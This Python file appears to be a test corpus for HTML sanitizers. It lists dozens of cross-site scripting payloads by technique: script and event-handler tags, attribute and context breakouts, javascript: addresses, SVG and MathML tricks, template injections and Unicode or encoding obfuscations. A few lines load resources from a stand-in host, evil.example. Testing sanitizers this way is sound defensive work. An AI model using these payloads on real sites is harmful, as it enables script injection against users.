"""Markup that has run somewhere: one of each way out of text, attributes, addresses, scripts and comments."""

CALL = "hit(1)"

TAGS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<script>//\n{CALL}\n//</script>",
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script/x>{CALL}</script\t>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object><embed src=javascript:{CALL}>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<style>@import '//evil.example/x.css';body{display:none}</style>",
]
HANDLERS = [
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}//",
    f"<IMG SRC=x OnErRoR=\"{CALL}\">",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<div style='animation:x' onanimationstart={CALL}>x</div>",
    f"<a tabindex=1 id=x onfocus={CALL} autofocus>x</a>",
    f"<form><button formaction=javascript:{CALL}>x</button></form>",
]
ATTRIBUTES = [
    f"\" autofocus onfocus=\"{CALL}",
    f"' autofocus onfocus='{CALL}",
    f"x onmouseover={CALL} y=",
    f"\"><img src=x onerror={CALL}>",
    f"'><img src=x onerror={CALL}>",
    f"\"/><svg onload={CALL}>",
    f"` onerror={CALL} x=`",
]
ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"<a href=\"javascript:{CALL}\">x</a>",
    f"[x](javascript:{CALL})",
    "//evil.example/x",
]
SVG = [
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={CALL}>#x\"/></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={CALL}></style></mglyph></mtext></math>",
]
BREAKS = [
    f"</textarea><img src=x onerror={CALL}>",
    f"</title><img src=x onerror={CALL}>",
    f"</script><img src=x onerror={CALL}>",
    f"</style><img src=x onerror={CALL}>",
    f"</option></select><img src=x onerror={CALL}>",
    f"--><img src=x onerror={CALL}>",
    f"--!><img src=x onerror={CALL}>",
    f"]]><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={CALL}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
]
TEMPLATES = [
    f"{{{{{CALL}}}}}", f"${{{CALL}}}", f"<%= {CALL} %>", f"#{{{CALL}}}", f"{{%{CALL}%}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}", f"<template><img src=x onerror={CALL}></template>",
    f"\\({CALL})", "%s%n{0}",
]
LETTERS = [
    f"\uff1cimg src=x onerror={CALL}\uff1e",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"%3Cimg src=x onerror={CALL}%3E",
    f"\\u003cimg src=x onerror={CALL}\\u003e",
    f"+ADw-img src=x onerror={CALL}+AD4-",
    f"<img\u2028src=x\u2029onerror={CALL}>",
    f"<img\x0csrc=x\x0conerror={CALL}>",
    f"<\u00adscript>{CALL}</\u00adscript>",
    f"\u202e<img src=x onerror={CALL}>\u202c",
    f"\u2066<script>{CALL}</script>\u2069",
    f"\ufeff<script>{CALL}</script>",
    f"a\u0300\u0301<script>{CALL}</script>\U0001f469\u200d\U0001f4bb",
]

ALL = TAGS + HANDLERS + ATTRIBUTES + ADDRESSES + SVG + BREAKS + TEMPLATES + LETTERS
